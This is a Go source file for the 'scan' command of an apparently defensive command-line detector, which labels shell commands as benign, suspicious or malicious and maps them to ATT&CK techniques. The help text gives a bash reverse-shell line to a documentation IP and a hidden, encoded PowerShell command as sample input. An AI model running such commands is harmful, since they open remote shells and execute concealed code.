package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"

	"github.com/spf13/cobra"

	"github.com/vigilsec/vigil/internal/command"
	"github.com/vigilsec/vigil/internal/command/detect"
	"github.com/vigilsec/vigil/internal/stream"
)

func init() { subcommands = append(subcommands, newScanCmd) }

// scanMaxLine bounds one input line: a 64 KiB command line JSON-escaped.
const scanMaxLine = 512 << 10

type scanOptions struct {
	input, format string
	workers       int
	det           detectorFlags
}

func newScanCmd() *cobra.Command {
	var o scanOptions
	c := &cobra.Command{
		Use:   "scan [flags] [COMMAND...]",
		Short: "Score command lines Benign / Suspicious / Malicious with ATT&CK techniques",
		Long: `scan runs the full command-line detector: deobfuscation, parsing, rules,
the Tier-1 verdict model with the router, and Tier-2 ATT&CK attribution.

Each COMMAND argument is one command line (quote it). With no COMMAND, scan
reads stdin as a stream: one command per line (--input text) or one JSON
object per line with a "command" field (--input jsonl). Memory does not grow
with the input; results come out in input order. A line that cannot be
read (bad JSON, no command, empty, over 64 KiB) yields an object with
"line" and "error" and the stream goes on.

Output (--format):
  jsonl  one JSON object per input: label, confidence, action, scores,
         deobfuscated, decoded_payload, techniques, evidence, elapsed_us ...
  json   the same objects, indented (for one command)
  table  a summary line per command, for people

Examples:
  vigil scan 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'
  vigil scan --format table 'whoami' 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
  cat commands.txt | vigil scan > verdicts.jsonl
  vigil scan --input jsonl < events.jsonl`,
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := checkFormat(o.format, "jsonl", "json", "table"); err != nil {
				return err
			}
			if o.input != "text" && o.input != "jsonl" {
				return fmt.Errorf("--input %q: want text or jsonl", o.input)
			}
			det, err := o.det.load()
			if err != nil {
				return err
			}
			w := bufio.NewWriterSize(cmd.OutOrStdout(), 64<<10)
			defer w.Flush()
			out := newScanWriter(w, o.format)
			if len(args) > 0 {
				for i, a := range args {
					out.write(scanOne(det, i+1, a, nil))
				}
				return out.err
			}
			return scanStream(cmd.InOrStdin(), det, o, out)
		},
	}
	c.Flags().StringVar(&o.input, "input", "text", "stdin format: text (one command per line) or jsonl ({\"command\": ...} per line)")
	c.Flags().StringVar(&o.format, "format", "jsonl", "output format: jsonl, json or table")
	o.det.register(c.Flags())
	c.Flags().IntVar(&o.workers, "workers", runtime.GOMAXPROCS(0), "commands scanned in parallel")
	return c
}

// scanResult is one output record: a verdict or a line error.
type scanResult struct {
	verdict *detect.Verdict
	line    int
	err     error
}

// scanError is the output object of an input line that could not be
// scanned.
type scanError struct {
	Line  int    `json:"line"`
	Error string `json:"error"`
	Code  string `json:"code"`
}

func scanOne(det *detect.Detector, line int, text string, readErr error) scanResult {
	if readErr != nil {
		return scanResult{line: line, err: readErr}
	}
	v, err := det.Scan(text)
	return scanResult{verdict: v, line: line, err: err}
}

// scanStream scans stdin in batches: each batch is scanned by the workers
// and written in input order before the next is read, which bounds memory.
func scanStream(r io.Reader, det *detect.Detector, o scanOptions, out *scanWriter) error {
	lines := stream.NewLines(r, scanMaxLine)
	batch := make([]scanResult, 0, 256)
	texts := make([]string, 0, 256)
	for {
		batch, texts = batch[:0], texts[:0]
		eof := false
		for len(batch) < cap(batch) {
			b, n, err := lines.Next()
			if errors.Is(err, io.EOF) {
				eof = true
				break
			}
			var le *stream.LineError
			if err != nil && !errors.As(err, &le) {
				return fmt.Errorf("read stdin: %w", err)
			}
			text, perr := "", err
			if perr == nil {
				text, perr = decodeLine(b, o.input)
			}
			batch, texts = append(batch, scanResult{line: n, err: perr}), append(texts, text)
		}
		scanBatch(det, batch, texts, o.workers)
		for _, res := range batch {
			out.write(res)
		}
		if out.err != nil || eof {
			return out.err
		}
	}
}

func scanBatch(det *detect.Detector, batch []scanResult, texts []string, workers int) {
	next := make(chan int)
	done := make(chan struct{})
	workers = max(1, min(workers, len(batch)))
	for range workers {
		go func() {
			for i := range next {
				if batch[i].err == nil {
					batch[i] = scanOne(det, batch[i].line, texts[i], nil)
				}
			}
			done <- struct{}{}
		}()
	}
	for i := range batch {
		next <- i
	}
	close(next)
	for range workers {
		<-done
	}
}

// decodeLine returns the command of one input line.
func decodeLine(b []byte, input string) (string, error) {
	if input == "text" {
		return string(b), nil
	}
	var rec struct {
		Command *string `json:"command"`
	}
	if err := json.Unmarshal(b, &rec); err != nil {
		return "", fmt.Errorf("malformed JSON: %w", err)
	}
	if rec.Command == nil {
		return "", errors.New(`missing field "command"`)
	}
	return *rec.Command, nil
}

// errorCode is the stable code of a line error.
func errorCode(err error) string {
	switch {
	case errors.Is(err, command.ErrEmpty):
		return "empty"
	case errors.Is(err, command.ErrTooLarge), errors.Is(err, stream.ErrLineTooLong):
		return "too_large"
	}
	return "malformed"
}

// scanWriter writes results in one format and keeps the first error.
type scanWriter struct {
	w      io.Writer
	format string
	enc    *json.Encoder
	err    error
	header bool
}

func newScanWriter(w io.Writer, format string) *scanWriter {
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	if format == "json" {
		enc.SetIndent("", "  ")
	}
	return &scanWriter{w: w, format: format, enc: enc}
}

func (s *scanWriter) write(r scanResult) {
	if s.err != nil {
		return
	}
	if s.format == "table" {
		s.table(r)
		return
	}
	if r.err != nil {
		s.err = s.enc.Encode(scanError{Line: r.line, Error: r.err.Error(), Code: errorCode(r.err)})
		return
	}
	s.err = s.enc.Encode(r.verdict)
}

func (s *scanWriter) table(r scanResult) {
	if !s.header {
		s.header = true
		_, s.err = fmt.Fprintf(s.w, "%-5s %-10s %5s %-16s %-30s %s\n", "LINE", "LABEL", "CONF", "ACTION", "TOP TECHNIQUE", "COMMAND")
	}
	if r.err != nil {
		_, s.err = fmt.Fprintf(s.w, "%-5d %-10s %5s %-16s %-30s %s\n", r.line, "error", "-", "-", "-", r.err)
		return
	}
	v, tech := r.verdict, "-"
	if len(v.Techniques) > 0 {
		tech = clip(v.Techniques[0].ID+" "+v.Techniques[0].Name, 30)
	}
	_, s.err = fmt.Fprintf(s.w, "%-5d %-10s %5.2f %-16s %-30s %s\n", r.line, v.Label, v.Confidence, v.Action, tech, clip(oneLine(v.Command), 80))
}

func clip(s string, n int) string {
	if r := []rune(s); len(r) > n {
		return string(r[:n-1]) + "…"
	}
	return s
}

func oneLine(s string) string { return strings.Join(strings.Fields(s), " ") }
